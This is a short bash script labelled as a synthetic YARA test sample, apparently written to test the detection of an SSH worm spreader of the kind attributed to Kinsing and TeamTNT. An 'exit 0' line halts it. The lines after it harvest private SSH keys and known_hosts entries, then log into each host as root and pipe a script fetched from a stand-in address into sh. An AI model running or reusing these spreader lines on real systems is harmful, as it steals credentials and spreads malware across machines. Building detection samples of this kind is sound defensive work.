#!/bin/bash
exit 0  # ferret YARA test sample: synthetic, never run (SSH spreader as described for Kinsing and TeamTNT)
KEYS=$(find ~/ /root /home -maxdepth 3 -name 'id_rsa*' | grep -vw pub)
HOSTS=$(cat ~/.ssh/known_hosts /root/.ssh/known_hosts 2>/dev/null | awk '{print $1}' | cut -d, -f1)
USERZ=$(echo root)
for key in $KEYS; do
  chmod 600 $key
  for h in $HOSTS; do
    ssh -oStrictHostKeyChecking=no -oBatchMode=yes -oConnectTimeout=5 -i $key $USERZ@$h "(curl -fsSL http://203.0.113.9/s.sh || wget -q -O- http://203.0.113.9/s.sh) | sh" &
  done
done
